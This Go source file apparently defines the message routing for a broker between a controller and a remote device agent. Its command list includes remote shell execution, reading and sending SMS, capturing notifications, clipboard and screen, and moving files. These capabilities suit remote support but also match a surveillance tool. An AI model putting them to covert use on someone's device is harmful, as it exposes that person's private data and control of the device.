package protocol

// Class partitions message types by how the broker handles them.
type Class int

const (
	// ClassControl messages are consumed by the broker itself.
	ClassControl Class = iota

	// ClassCommand messages flow controller -> agent.
	ClassCommand

	// ClassEvent messages flow agent -> controller.
	ClassEvent

	// ClassPassthrough covers types the broker does not enumerate.
	// They are forwarded to the sender's peer unmodified.
	ClassPassthrough
)

// String returns a readable class name for logging.
func (c Class) String() string {
	switch c {
	case ClassControl:
		return "control"
	case ClassCommand:
		return "command"
	case ClassEvent:
		return "event"
	default:
		return "passthrough"
	}
}

// controlTypes are handled locally and never forwarded.
var controlTypes = map[string]struct{}{
	TypeAgentRegister:     {},
	TypeControllerConnect: {},
	TypePing:              {},
	TypePong:              {},
}

// commandTypes are actions the controller issues against the device.
var commandTypes = map[string]struct{}{
	"touch":                 {},
	"key":                   {},
	"text_input":            {},
	"swipe":                 {},
	"scroll":                {},
	"back":                  {},
	"home":                  {},
	"recents":               {},
	"volume_up":             {},
	"volume_down":           {},
	"request_screen":        {},
	"request_info":          {},
	"request_notifications": {},
	"request_sms":           {},
	"send_sms":              {},
	"request_files":         {},
	"download_file":         {},
	"upload_file":           {},
	"request_apps":          {},
	"launch_app":            {},
	"request_battery":       {},
	"request_clipboard":     {},
	"set_clipboard":         {},
	"shell_command":         {},
	"screen_config":         {},
}

// eventTypes are telemetry and data the agent reports back.
var eventTypes = map[string]struct{}{
	"screen_frame":   {},
	"notification":   {},
	"sms_list":       {},
	"sms_sent":       {},
	"file_list":      {},
	"file_data":      {},
	"app_list":       {},
	"device_info":    {},
	"battery_info":   {},
	"clipboard_data": {},
	"shell_result":   {},
	"phone_status":   {},
}

// Classify maps a declared message type to its routing class.
func Classify(msgType string) Class {
	if _, ok := controlTypes[msgType]; ok {
		return ClassControl
	}
	if _, ok := commandTypes[msgType]; ok {
		return ClassCommand
	}
	if _, ok := eventTypes[msgType]; ok {
		return ClassEvent
	}
	return ClassPassthrough
}

// Target resolves the routing decision for a message class and sender role.
// It returns the role the message should be delivered to, or false when the
// message must be dropped (wrong direction, control traffic, or a sender
// that has not registered).
func Target(class Class, sender Role) (Role, bool) {
	switch class {
	case ClassCommand:
		if sender != RoleController {
			return RoleUnassigned, false
		}
		return RoleAgent, true

	case ClassEvent:
		if sender != RoleAgent {
			return RoleUnassigned, false
		}
		return RoleController, true

	case ClassPassthrough:
		// Forward-compatibility escape hatch for unlisted types.
		if sender == RoleUnassigned {
			return RoleUnassigned, false
		}
		return sender.Opposite(), true

	default:
		return RoleUnassigned, false
	}
}
